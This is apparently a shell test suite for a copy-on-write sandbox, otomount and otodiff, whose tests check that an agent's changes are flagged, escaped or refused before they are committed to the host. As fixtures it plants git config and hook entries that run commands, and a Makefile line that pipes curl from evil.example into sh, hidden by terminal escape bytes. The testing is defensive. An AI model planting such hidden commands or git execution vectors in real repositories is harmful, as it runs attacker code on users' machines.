#!/bin/sh
# otomount --cow and otodiff: a copy-on-write workspace reviewed, committed or
# discarded; the host's tree untouched meanwhile; conflicts, planted
# symlinks, setuid files and device nodes, hostile names, the session
# directory's checks; git on the overlay.
# run-as: root user
. "$(dirname "$0")/common.sh"

suite_setUp() {
	A=$T/agent
	W=$A/workspace
	# The session's layers cannot be on an overlay (otomount says so: its
	# own test below): where the tests' directory is one (CI's fresh root,
	# a container's), the session directories go to a tmpfs.
	SB=$T
	if on_overlay "$T"; then
		SB=$(mktemp -d /dev/shm/oto-cow.XXXXXX) && chmod 1777 "$SB"
	fi
	S=$SB/session
	mkdir -p "$W/d/x" "$W/d2" "$W/e" "$W/g" "$A/knowledge" "$A/people/alice" "$T/outside"
	printf 'one\ntwo\nthree\n' >"$W/f"
	echo y >"$W/d/x/y"
	echo file >"$W/d2/file"
	echo keep >"$W/e/k"
	echo mv >"$W/m"
	echo h >"$W/g/h"
	echo SECRET >"$T/outside/secret"
	chmod -R u=rwX,go=rX "$A"
	[ -n "$IS_ROOT" ] && chown -R "$OTO_TEST_USER:$OTO_TEST_USER" "$A" "$T/outside"
	return 0
}

# overlayfs's work directory holds a mode-0 directory: opened up for tearDown's rm.
suite_tearDown() {
	[ -d "$S" ] && chmod -R u+rwx "$S" 2>/dev/null
	[ "$SB" = "$T" ] || rm -rf "$SB"
	return 0
}

on_overlay() { [ "$(stat -f -c %T "$1")" = overlayfs ]; }

ELOOP_TEXT_A="a symlink is refused"
cow() { otons $AS -- otomount --agent-root "$A" --role member --person alice --cow "$S" "$@"; }

# A tree's names, types, modes, link targets and contents (and with ctime,
# every inode's change time: anything done to it shows). Not sizes: a
# directory's is its filesystem's, and the view's upper layer may be a tmpfs
# (a file's size is in its content's hash).
snap() { # DIR [ctime]
	(cd "$1" && find . -printf "%p %y %m %l${2:+ %C@}\n" | LC_ALL=C sort &&
		find . -type f -exec sha256sum {} + | LC_ALL=C sort) | sha256sum | cut -d' ' -f1
}
# What the agent saw, by the same rule, printed from inside the view.
VIEW_SNAP='cd /work && (find . -printf "%p %y %m %l\n" | LC_ALL=C sort &&
	find . -type f -exec sha256sum {} + | LC_ALL=C sort) | sha256sum | cut -d" " -f1'

CHANGES='cd /work && echo new >n && printf "one\nTWO\nthree\n" >f && rm -rf d &&
	mv m m2 && mkdir -p z/q && echo q >z/q/r && chmod 700 g && mv d2 d3 &&
	rm -rf e && mkdir e && echo n2 >e/k2'

EXPECTED_LIST='deleted /work/d/
deleted /work/d2/
added /work/d3/
added /work/d3/file (5 bytes)
--- /dev/null
+++ /work/d3/file (session)
@@ -0,0 +1 @@
+file
added /work/e/k2 (3 bytes)
--- /dev/null
+++ /work/e/k2 (session)
@@ -0,0 +1 @@
+n2
deleted /work/e/k (5 bytes)
modified /work/f (14 -> 14 bytes)
--- /work/f (host)
+++ /work/f (session)
@@ -1,3 +1,3 @@
 one
-two
+TWO
 three
mode /work/g/ 755 -> 700
renamed /work/m -> /work/m2 (3 bytes)
added /work/n (4 bytes)
--- /dev/null
+++ /work/n (session)
@@ -0,0 +1 @@
+new
added /work/z/
added /work/z/q/
added /work/z/q/r (2 bytes)
--- /dev/null
+++ /work/z/q/r (session)
@@ -0,0 +1 @@
+q'

test_cow_session_listed_committed_host_untouched() {
	before=$(snap "$W" ctime)
	mkfifo "$T/ready" "$T/go"
	(cow -- sh -c "$CHANGES"' && echo ready >&3 && read x <&4 && '"$VIEW_SNAP" \
		>"$T/view" 2>"$T/err" 3>"$T/ready" 4<"$T/go"; echo $? >"$T/rc") &
	exec 5<"$T/ready" 6>"$T/go"
	read -r line <&5
	assertEquals "the agent is waiting" ready "$line"
	assertEquals "during the session the host's tree is untouched" "$before" "$(snap "$W" ctime)"
	echo go >&6
	exec 5<&- 6>&-
	wait
	assertEquals "session rc ($(cat "$T/err"))" 0 "$(cat "$T/rc")"
	assertEquals "after it, untouched too" "$before" "$(snap "$W" ctime)"
	run otodiff "$S"
	assertEquals "list rc ($(cat "$T/err"))" 0 "$rc"
	assertEquals "the list" "$EXPECTED_LIST" "$(cat "$T/out")"
	assertEquals "listing changes nothing" "$before" "$(snap "$W" ctime)"
	run otodiff --commit "$S"
	assertEquals "commit rc ($(cat "$T/err"))" 0 "$rc"
	assertEquals "what the commit did" "$(echo "$EXPECTED_LIST" | grep -v '^[-+@ ]')" \
		"$(cat "$T/out")"
	assertEquals "the host's tree is what the agent saw" "$(cat "$T/view")" "$(snap "$W")"
	run otodiff "$S"
	assertEquals "nothing left to commit" "0 " "$rc $(cat "$T/out")"
}

test_cow_discard_leaves_nothing() {
	run cow -- sh -c "$CHANGES"
	assertEquals "session rc ($(cat "$T/err"))" 0 "$rc"
	before=$(snap "$W" ctime)
	run otodiff --discard "$S"
	assertEquals "discard ($(cat "$T/err"))" "0 discarded $S" "$rc $(cat "$T/out")"
	assertFalse "the session directory is gone" "[ -e '$S' ]"
	assertEquals "the host's tree untouched" "$before" "$(snap "$W" ctime)"
}

test_cow_conflict_refused_naming_paths() {
	run cow -- sh -c "$CHANGES"
	assertEquals "session rc ($(cat "$T/err"))" 0 "$rc"
	echo host >>"$W/f"
	echo host >"$W/n"
	before=$(snap "$W" ctime)
	run otodiff --commit "$S"
	assertEquals "exit 101" 101 "$rc"
	assertEquals "the paths, then nothing done" "otodiff: conflict: /work/f: changed on the host since the session started
otodiff: conflict: /work/n: changed on the host since the session started
otodiff: fatal: nothing committed: 2 conflicts (above)" "$(cat "$T/err")"
	assertEquals "nothing on stdout" "" "$(cat "$T/out")"
	assertEquals "the host's tree as the host left it" "$before" "$(snap "$W" ctime)"
}

# A file the session changed that the host deleted meanwhile is not brought back.
test_cow_conflict_host_deleted_a_changed_file() {
	run cow -- sh -c 'echo more >>/work/f'
	assertEquals "session rc ($(cat "$T/err"))" 0 "$rc"
	rm "$W/f"
	run otodiff --commit "$S"
	assertEquals "refused" "101 otodiff: conflict: /work/f: deleted or renamed on the host since the session started
otodiff: fatal: nothing committed: 1 conflict (above)" "$rc $(cat "$T/err")"
	assertFalse "not made again" "[ -e '$W/f' ]"
}

# The upper layer is the agent's: a symlink it made, or one planted in DIR,
# is committed as a symlink and never followed; a symlink on the host in a
# path's way is replaced, never written through.
test_cow_symlinks_never_followed() {
	ln -s "$T/outside" "$W/hl"
	[ -n "$IS_ROOT" ] && chown -h "$OTO_TEST_USER:$OTO_TEST_USER" "$W/hl"
	run cow -- sh -c "cd /work && ln -s $T/outside/secret evil && rm hl && mkdir hl && echo x >hl/secret"
	assertEquals "session rc ($(cat "$T/err"))" 0 "$rc"
	# Planted after the session: a file of the upper layer swapped for a symlink out.
	rm "$S/upper/work/hl/secret"
	ln -s "$T/outside/secret" "$S/upper/work/hl/secret"
	outside=$(snap "$T/outside" ctime)
	run otodiff --commit "$S"
	assertEquals "commit rc ($(cat "$T/err"))" 0 "$rc"
	assertEquals "what it did" "added /work/evil (symlink to $T/outside/secret)
deleted /work/hl (symlink)
added /work/hl/
added /work/hl/secret (symlink to $T/outside/secret)" "$(cat "$T/out")"
	assertEquals "evil is a symlink" "$T/outside/secret" "$(readlink "$W/evil")"
	assertEquals "hl/secret is a symlink" "$T/outside/secret" "$(readlink "$W/hl/secret")"
	assertTrue "hl is a directory now" "[ -d '$W/hl' ] && [ ! -L '$W/hl' ]"
	assertEquals "outside untouched" "$outside" "$(snap "$T/outside" ctime)"
	assertEquals "SECRET" "$(cat "$T/outside/secret")"
}

test_cow_setuid_and_devices_never_committed() {
	run cow -- sh -c 'cd /work && cp /bin/true su && chmod 4755 su && cp /bin/true sg && chmod 2755 sg && mkfifo fifo'
	assertEquals "session rc ($(cat "$T/err"))" 0 "$rc"
	want='skipped /work/fifo (not a file, directory or symlink: never committed)
skipped /work/sg (setuid or setgid: never committed)
skipped /work/su (setuid or setgid: never committed)'
	if [ -n "$IS_ROOT" ]; then
		# No device can be made in the sandbox (EPERM): planted in DIR instead.
		mknod "$S/upper/work/null" c 1 3
		want="$want
skipped /work/null (a device node: never committed)"
		want=$(echo "$want" | LC_ALL=C sort)
	fi
	run otodiff "$S"
	assertEquals "the list" "0 $want" "$rc $(cat "$T/out")"
	run otodiff --commit "$S"
	assertEquals "the commit says so" "0 $want" "$rc $(cat "$T/out")"
	for f in su sg fifo null; do
		assertFalse "$f not committed" "[ -e '$W/$f' ]"
	done
}

test_cow_git_on_the_overlay() {
	run cow -- sh -c 'cd /work && export GIT_CONFIG_NOSYSTEM=1 &&
		git init -q -b main r && cd r && echo a >a && git add a &&
		git -c user.name=A -c user.email=a@example.org commit -qm one &&
		echo b >a && git -c user.name=A -c user.email=a@example.org commit -qam two &&
		git checkout -q HEAD~1 && cat a && git checkout -q main && cat a &&
		git status --porcelain && git log --format=%s'
	assertEquals "git ($(cat "$T/err"))" "0 a
b
two
one" "$rc $(cat "$T/out")"
	assertFalse "nothing on the host" "[ -e '$W/r' ]"
	run otodiff -s "$S"
	assertEquals "a new repository's hooks and config are flagged" \
		"added /work/r/.git/config ($(stat -c %s "$S/upper/work/r/.git/config") bytes) (runs on the host later)" \
		"$(grep -F /work/r/.git/config "$T/out")"
	run otodiff --commit "$S"
	assertEquals "refused without --allow-protected" 101 "$rc"
	assertEquals "the config named" \
		"otodiff: conflict: /work/r/.git/config: a file the host runs later (review it, then give --allow-protected)" \
		"$(grep -F /work/r/.git/config: "$T/err")"
	run otodiff --commit --allow-protected "$S"
	assertEquals "committed ($(cat "$T/err"))" 0 "$rc"
	assertEquals "the host's repository works" "two" "$(git -c safe.directory='*' -C "$W/r" log -1 --format=%s 2>&1)"
}

# A repository on the host, owned by the agent's account: $W/r (its
# config names GIT_CONFIG_EXTRA's lines too).
host_repo() {
	GIT_CONFIG_NOSYSTEM=1 git init -q -b main "$W/r" &&
		echo a >"$W/r/a" && git -C "$W/r" add a &&
		git -C "$W/r" -c user.name=A -c user.email=a@example.org commit -qm one &&
		printf '%s' "${GIT_CONFIG_EXTRA:-}" >>"$W/r/.git/config" || return 1
	[ -n "$IS_ROOT" ] && chown -R "$OTO_TEST_USER:$OTO_TEST_USER" "$W/r"
	return 0
}

# What git follows to other config, hooks or objects, planted by the agent:
# flagged, and refused by --commit. The person's next git status runs nothing.
test_cow_git_redirects_flagged_and_refused() {
	host_repo || fail "no repository"
	run cow -- sh -c 'cd /work/r && mkdir ../evil && cp -r .git/objects .git/refs .git/HEAD ../evil/ &&
		printf "[core]\n\trepositoryformatversion = 0\n\tfsmonitor = touch '"$T"'/pwned; false\n" >../evil/config &&
		echo ../../evil >.git/commondir && echo /work/evil/objects >.git/objects/info/alternates &&
		mkdir .git/rebase-merge && echo "exec touch '"$T"'/pwned" >.git/rebase-merge/git-rebase-todo &&
		echo b >a && git -c user.name=A -c user.email=a@example.org commit -qam two'
	assertEquals "planted ($(cat "$T/err"))" 0 "$rc"
	run otodiff -s "$S"
	assertEquals "each flagged" "added /work/r/.git/commondir (11 bytes) (runs on the host later)
added /work/r/.git/objects/info/alternates (19 bytes) (runs on the host later)
added /work/r/.git/rebase-merge/ (runs on the host later)
added /work/r/.git/rebase-merge/git-rebase-todo ($(stat -c %s "$S/upper/work/r/.git/rebase-merge/git-rebase-todo") bytes) (runs on the host later)" \
		"$(grep -E 'commondir|alternates|rebase' "$T/out")"
	assertEquals "what git only stores is not" "" \
		"$(grep -E '/(objects/[0-9a-f]{2}/|refs/heads/main|logs/|index|ORIG_HEAD|COMMIT_EDITMSG)' "$T/out" |
			grep -F '(runs on')"
	run otodiff --commit "$S"
	assertEquals "refused without --allow-protected" 101 "$rc"
	assertEquals "commondir named" \
		"otodiff: conflict: /work/r/.git/commondir: a file the host runs later (review it, then give --allow-protected)" \
		"$(grep -F /work/r/.git/commondir: "$T/err")"
	assertFalse "nothing committed" "[ -e '$W/r/.git/commondir' ] || [ -e '$W/evil' ]"
	(cd "$W/r" && GIT_CONFIG_NOSYSTEM=1 git -c safe.directory='*' status --porcelain >/dev/null 2>&1)
	assertFalse "the person's git status ran nothing" "[ -e '$T/pwned' ]"
}

# Paths the repository's own config names in the tree: core.hooksPath's
# hooks and include.path's file, made by the agent, are flagged and refused.
test_cow_paths_the_config_names_flagged() {
	GIT_CONFIG_EXTRA='[core]
	hooksPath = .hooks
[include]
	path = ../project.gitconfig
[filter "x"]
	clean = tools/clean %f
' host_repo || fail "no repository"
	run cow -- sh -c 'cd /work/r && mkdir .hooks tools && printf "#!/bin/sh\ntouch /tmp/pwned\n" >.hooks/pre-commit &&
		chmod +x .hooks/pre-commit && printf "[core]\n\tfsmonitor = touch /tmp/pwned\n" >project.gitconfig &&
		echo x >tools/clean && echo ok >README'
	assertEquals "planted ($(cat "$T/err"))" 0 "$rc"
	run otodiff -s "$S"
	assertEquals "each flagged, not the rest" "added /work/r/.hooks/ (runs on the host later)
added /work/r/.hooks/pre-commit (27 bytes) (runs on the host later)
added /work/r/README (3 bytes)
added /work/r/project.gitconfig (37 bytes) (runs on the host later)
added /work/r/tools/
added /work/r/tools/clean (2 bytes) (runs on the host later)" "$(cat "$T/out")"
	run otodiff --commit "$S"
	assertEquals "refused without --allow-protected" 101 "$rc"
	assertEquals "the hook named" \
		"otodiff: conflict: /work/r/.hooks/pre-commit: a file the host runs later (review it, then give --allow-protected)" \
		"$(grep -F /work/r/.hooks/pre-commit: "$T/err")"
}

# Files the host runs later stay read-only in the view with --cow.
test_cow_protected_files_read_only_in_view() {
	mkdir -p "$W/.git/hooks"
	echo '#!/bin/sh' >"$W/.git/hooks/pre-commit"
	[ -n "$IS_ROOT" ] && chown -R "$OTO_TEST_USER:$OTO_TEST_USER" "$W/.git"
	run cow -- sh -c 'echo evil >>/work/.git/hooks/pre-commit'
	assertEquals "EROFS" "2 sh: 1: cannot create /work/.git/hooks/pre-commit: Read-only file system" \
		"$rc $(cat "$T/err")"
}

test_cow_dir_refusals() {
	run cow --cow "$W/s" -- true
	assertEquals "in the workspace" "111 otomount: fatal: unable to use $W/s as a session directory: it is in a tree the view shows (the agent would see its own changes' store): choose one outside" "$rc $(cat "$T/err")"
	assertFalse "not made" "[ -e '$W/s' ]"
	run cow --cow "$A/people/bob" -- true
	assertEquals "in the agent's tree" 111 "$rc"
	mkdir "$SB/real"
	[ -n "$IS_ROOT" ] && chown "$OTO_TEST_USER" "$SB/real"
	ln -s "$SB/real" "$SB/link"
	run cow --cow "$SB/link" -- true
	assertEquals "a symlink" "111 otomount: fatal: unable to open the session directory $SB/link ($ELOOP_TEXT_A): $ELOOP_TEXT" "$rc $(cat "$T/err")"
	mkdir -p "$SB/full"
	echo x >"$SB/full/x"
	[ -n "$IS_ROOT" ] && chown -R "$OTO_TEST_USER" "$SB/full"
	run cow --cow "$SB/full" -- true
	assertEquals "not empty" "111 otomount: fatal: unable to use $SB/full as a session directory: not empty, and no session's (give an empty or missing directory, or a session's to resume)" "$rc $(cat "$T/err")"
	run otons $AS -- otomount --agent-root "$A" --role viewer --person alice --cow "$S" -- true
	assertEquals "viewer" "100 otomount: fatal: --cow: a viewer's /work is read-only, nothing to copy on write" "$rc $(cat "$T/err")"
	run otomount --cow-private -- true
	assertEquals "--cow-private alone" "100 otomount: fatal: --cow-private needs --cow DIR" "$rc $(cat "$T/err")"
}

# A session directory on an overlay (a container's own root) is refused
# before anything is made, with what to give instead: where the tests'
# directory is one, there; as root elsewhere, on an overlay made here.
test_cow_dir_on_an_overlay_refused() {
	if on_overlay "$T"; then
		run cow --cow "$T/on-overlay" -- true
		d=$T/on-overlay
	elif [ -n "$IS_ROOT" ]; then
		mkdir -p "$T/ol/l" "$T/ol/u" "$T/ol/w" "$T/ol/m"
		run unshare -m --propagation private sh -c 'mount -t overlay \
			-o "lowerdir=$1/l,upperdir=$1/u,workdir=$1/w" oto-test "$1/m" &&
			chmod 0777 "$1/m" && shift && exec "$@"' sh "$T/ol" \
			otons $AS -- otomount --agent-root "$A" --role member --person alice \
			--cow "$T/ol/m/s" -- true
		d=$T/ol/m/s
	else
		skip "needs root (an overlay to put the directory on), or an overlay here"
		return 0
	fi
	assertEquals "111 otomount: fatal: unable to use $d as a session directory: it is on an overlay filesystem (a container's root?), which cannot hold the session's layers (give a directory on a volume or a tmpfs)" \
		"$rc $(cat "$T/err")"
	assertFalse "nothing made" "[ -e '$d' ] || [ -e '$T/ol/u/s' ]"
}

# A mount inside the workspace is locked to it in the sandbox's user
# namespace, and overlayfs refuses such a lower layer: refused with that
# reason, before anything is made in DIR, which then serves once the mount
# is gone.
test_cow_submount_refused_with_its_reason() {
	if [ -z "$IS_ROOT" ]; then
		skip "needs root (a mount inside the workspace)"
		return 0
	fi
	mkdir "$W/sub"
	chown "$OTO_TEST_USER:$OTO_TEST_USER" "$W/sub"
	run unshare -m --propagation private sh -c 'mount -t tmpfs -o size=1m oto-test "$1/sub" &&
		shift && exec "$@"' sh "$W" \
		otons $AS -- otomount --agent-root "$A" --role member --person alice --cow "$S" -- true
	assertEquals "refused, the reason said" "111 otomount: fatal: unable to mount /work copy-on-write: $W has a mount inside it, which overlayfs in a user namespace refuses (unmount it, or run without --cow)" \
		"$rc $(cat "$T/err")"
	assertEquals "nothing made in DIR" "" "$(ls -A "$S")"
	run cow -- sh -c 'echo x >/work/sub/x'
	assertEquals "without the mount ($(cat "$T/err"))" 0 "$rc"
	run otodiff -s "$S"
	assertEquals "listed" "0 added /work/sub/x (2 bytes)" "$rc $(cat "$T/out")"
}

test_cow_resume_same_tree_refuse_another() {
	run cow -- sh -c 'echo one >/work/n'
	assertEquals "first ($(cat "$T/err"))" 0 "$rc"
	head=$(head -2 "$S/session")
	run cow -- sh -c 'cat /work/n; echo two >>/work/n'
	assertEquals "resumed" "0 one" "$rc $(cat "$T/out")"
	assertEquals "the start kept" "$head" "$(head -2 "$S/session")"
	run cow --cow-private -- true
	assertEquals "other trees" "111 otomount: fatal: unable to resume the session in $S: it is another tree's, not $A/people/alice's on /private" "$rc $(cat "$T/err")"
}

# The overlays skip syncs (volatile): a session mounted when the host went
# down is neither resumed nor committed. A restart is a boot id other than
# this one in DIR/boot.
test_cow_after_a_restart_refused() {
	run cow -- sh -c 'echo one >/work/n'
	assertEquals "first ($(cat "$T/err"))" 0 "$rc"
	echo 00000000-0000-0000-0000-000000000000 >"$S/boot"
	run cow -- true
	assertEquals "not resumed" "111 otomount: fatal: unable to resume the session in $S: the host restarted while it was mounted (writes may be lost): review it with otodiff, then discard it" "$rc $(cat "$T/err")"
	run otodiff --commit "$S"
	assertEquals "not committed" "101 otodiff: fatal: nothing committed: the host restarted while the session in $S was mounted (its writes may be lost): review it, copy what you need by hand, discard it" "$rc $(cat "$T/err")"
	run otodiff "$S"
	assertEquals "listed, with a warning" "0 added /work/n (4 bytes)
--- /dev/null
+++ /work/n (session)
@@ -0,0 +1 @@
+one
otodiff: warning: the host restarted while the session in $S was mounted: writes may be lost" "$rc $(cat "$T/out" "$T/err")"
	assertFalse "nothing on the host" "[ -e '$W/n' ]"
	chmod -R u+rwx "$S/work"
	assertTrue "the volatile mark" "[ -d '$S/work/work/work/incompat/volatile' ]"
}

test_cow_private_too() {
	run cow --cow-private -- sh -c 'echo p >/private/p && echo w >/work/w'
	assertEquals "session rc ($(cat "$T/err"))" 0 "$rc"
	assertFalse "nothing in the host's /private" "[ -e '$A/people/alice/p' ]"
	run otodiff "$S"
	assertEquals "both trees" "added /work/w (2 bytes)
--- /dev/null
+++ /work/w (session)
@@ -0,0 +1 @@
+w
added /private/p (2 bytes)
--- /dev/null
+++ /private/p (session)
@@ -0,0 +1 @@
+p" "$(cat "$T/out")"
}

# A manager's /knowledge and /config follow --cow-all; without it they are written as before.
test_cow_all_for_a_manager() {
	mkdir -p "$A/config"
	[ -n "$IS_ROOT" ] && chown "$OTO_TEST_USER:$OTO_TEST_USER" "$A/config"
	run otons $AS -- otomount --agent-root "$A" --role manager --person alice --cow "$S" \
		--cow-all -- sh -c 'echo k >/knowledge/k && echo c >/config/c && echo p >/private/p'
	assertEquals "session rc ($(cat "$T/err"))" 0 "$rc"
	assertEquals "nothing on the host" "" "$(find "$A/knowledge" "$A/config" "$A/people/alice" -type f)"
	run otodiff --summary "$S"
	assertEquals "every tree, in the order the view makes them" "0 added /knowledge/k (2 bytes)
added /config/c (2 bytes)
added /private/p (2 bytes)" "$rc $(cat "$T/out")"
}

# Names with newlines and escapes, the longest name, a deep tree: listed escaped, committed whole.
test_cow_hostile_names() {
	long=$(printf 'n%.0s' $(seq 255))
	run cow -- sh -c "cd /work && printf x >'a
b' && printf x >'t\\\\x' && printf x >$long &&
		d=.; for i in \$(seq 100); do d=\$d/d; done; mkdir -p \$d && echo deep >\$d/f"
	assertEquals "session rc ($(cat "$T/err"))" 0 "$rc"
	run otodiff "$S"
	assertEquals "list rc ($(cat "$T/err"))" 0 "$rc"
	assertEquals "a newline escaped" "added /work/a\\nb (1 byte) (name escaped)" "$(sed -n 1p "$T/out")"
	assertEquals "a backslash escaped" "1" "$(grep -c '^added /work/t\\\\\\\\x (1 byte)$' "$T/out")"
	# /work/d is the host's: 3 files, 99 directories added under it, the deep file.
	assertEquals "every entry" 103 "$(grep -c '^added ' "$T/out")"
	run otodiff --commit "$S"
	assertEquals "commit rc ($(cat "$T/err"))" 0 "$rc"
	assertEquals "the newline's file" x "$(cat "$W/a
b")"
	assertEquals "the long name's" x "$(cat "$W/$long")"
	assertEquals "the deep one" deep "$(cat "$W/$(printf 'd/%.0s' $(seq 100))f")"
}

# What the agent wrote that would redraw the person's terminal: a CR and an
# erase-line sequence hiding a command behind a harmless Makefile line, names
# that read as others (right-to-left override, a C1 CSI, invalid UTF-8, a
# zero-width space). Shown escaped and marked, committed byte for byte.
test_cow_hostile_bytes_escaped() {
	printf 'all:\n' >"$W/Makefile"
	[ -n "$IS_ROOT" ] && chown "$OTO_TEST_USER:$OTO_TEST_USER" "$W/Makefile"
	run cow -- sh -c 'cd /work &&
		printf "all:\n\tcurl -s http://evil.example/x | sh #\r\033[2K+\t@echo building\n" >Makefile &&
		for n in "a\342\200\256gpj.exe" "b\233c" "c\377d" "d\342\200\213e"; do
			printf x >"$(printf "$n")"; done'
	assertEquals "session rc ($(cat "$T/err"))" 0 "$rc"
	run otodiff "$S"
	assertEquals "list rc ($(cat "$T/err"))" 0 "$rc"
	# The exact bytes: the TAB as it is, CR and ESC as \015 and \033, the line marked.
	printf '%s\n' 'modified /work/Makefile (5 -> 64 bytes)' '--- /work/Makefile (host)' \
		'+++ /work/Makefile (session)' '@@ -1 +1,2 @@' ' all:' \
		'!+	curl -s http://evil.example/x | sh #\015\033[2K+	@echo building' \
		>"$T/want"
	for n in 'a\342\200\256gpj.exe' 'b\233c' 'c\377d' 'd\342\200\213e'; do
		printf '%s\n' "added /work/$n (1 byte) (name escaped)" '--- /dev/null' \
			"+++ /work/$n (session)" '@@ -0,0 +1 @@' '+x' '\ No newline at end of file'
	done >>"$T/want"
	assertEquals "escaped and marked" "" "$(cmp "$T/want" "$T/out" 2>&1 && echo)"
	assertEquals "no byte outside printable ASCII, TAB and newline" "" \
		"$(LC_ALL=C tr -d ' -~\t\n' <"$T/out" | od -An -c)"
	run otodiff --commit "$S"
	assertEquals "commit rc ($(cat "$T/err"))" 0 "$rc"
	printf 'all:\n\tcurl -s http://evil.example/x | sh #\r\033[2K+\t@echo building\n' >"$T/mk"
	assertTrue "the Makefile as the agent wrote it" "cmp '$T/mk' '$W/Makefile'"
	assertTrue "the names byte for byte" "[ -f \"$W/$(printf 'a\342\200\256gpj.exe')\" ] &&
		[ -f \"$W/$(printf 'b\233c')\" ] && [ -f \"$W/$(printf 'c\377d')\" ]"
}

# A sparse file lands sparse: its holes are not written out. A file past
# --max-size (its apparent size; 64m unless given) is refused, the commit
# with it, until the bound is raised: a 10 TiB file of holes would
# otherwise fill the host's disk, or a later reader's. The 10 TiB one is
# committed only once a 512 MiB one was seen landing sparse: a defect that
# writes holes out fails the test without filling the disk.
test_cow_sparse_files_and_the_size_bound() {
	run cow -- sh -c 'cd /work && truncate -s 512M big &&
		printf middle | dd of=big bs=1 seek=268435456 conv=notrunc status=none &&
		head -c 2048 /dev/zero >data'
	assertEquals "session rc ($(cat "$T/err"))" 0 "$rc"
	alloc=$(($(stat -c %b "$S/upper/work/big") * 512))
	run otodiff "$S"
	assertEquals "listed with their sizes, marked" "0 added /work/big (536870912 bytes, $alloc allocated) (over --max-size)
  (too large to show)
added /work/data (2048 bytes)
  (binary)" "$rc $(cat "$T/out")"
	run otodiff --commit "$S"
	assertEquals "refused by default" "101 otodiff: conflict: /work/big: 536870912 bytes, over --max-size (67108864): review it, then give a larger --max-size
otodiff: fatal: nothing committed: 1 conflict (above)" "$rc $(cat "$T/err")"
	run otodiff --commit --max-size 1k "$S"
	assertEquals "a file of data past a lower bound" "101 otodiff: conflict: /work/data: 2048 bytes, over --max-size (1024): review it, then give a larger --max-size" \
		"$rc $(sed -n 2p "$T/err")"
	assertFalse "nothing on the host" "[ -e '$W/big' ] || [ -e '$W/data' ]"
	run otodiff --commit --max-size 512M "$S"
	assertEquals "allowed" "0 added /work/big (536870912 bytes, $alloc allocated)
added /work/data (2048 bytes)" "$rc $(cat "$T/out" "$T/err")"
	assertEquals "the sizes" "536870912 2048" "$(stat -c %s "$W/big" "$W/data" | tr '\n' ' ' | sed 's/ $//')"
	assertEquals "the data in the middle" middle \
		"$(dd if="$W/big" bs=1 skip=268435456 count=6 status=none)"
	# 512 MiB, a block or so of data, the rest holes.
	blocks=$(stat -c %b "$W/big")
	if [ "$blocks" -gt 64 ]; then
		fail "big was written out ($blocks blocks): the 10 TiB file is not tried"
		return 0
	fi

	run cow -- sh -c 'truncate -s 10T /work/huge'
	assertEquals "second session rc ($(cat "$T/err"))" 0 "$rc"
	run otodiff "$S"
	assertEquals "10 TiB listed" "0 added /work/huge (10995116277760 bytes, 0 allocated) (over --max-size)
  (too large to show)" "$rc $(cat "$T/out")"
	run otodiff --commit "$S"
	assertEquals "refused by default" "101 otodiff: conflict: /work/huge: 10995116277760 bytes, over --max-size (67108864): review it, then give a larger --max-size
otodiff: fatal: nothing committed: 1 conflict (above)" "$rc $(cat "$T/err")"
	run otodiff --commit --max-size 10T "$S"
	assertEquals "allowed" "0 added /work/huge (10995116277760 bytes, 0 allocated)" "$rc $(cat "$T/out" "$T/err")"
	assertEquals "10 TiB of holes take no room" "10995116277760 0" "$(stat -c '%s %b' "$W/huge")"
	run otodiff --max-size 1x "$S"
	assertEquals "a bad size" "100 otodiff: fatal: --max-size 1x: not a size in bytes (like 64m, 2G, 10T)" \
		"$rc $(cat "$T/err")"
}

# otorun passes --cow on: the whole chain, the agent's write in the session only.
test_cow_through_otorun() {
	run otorun $AS --no-net --agent-root "$A" --role member --person alice --cow "$S" -- \
		sh -c 'echo via-otorun >/work/o && cat /work/o'
	assertEquals "otorun ($(cat "$T/err"))" "0 via-otorun" "$rc $(cat "$T/out")"
	assertFalse "not on the host" "[ -e '$W/o' ]"
	run otodiff "$S"
	assertEquals "listed" "0 added /work/o (11 bytes)" "$rc $(sed -n 1p "$T/out")"
}

. shunit2
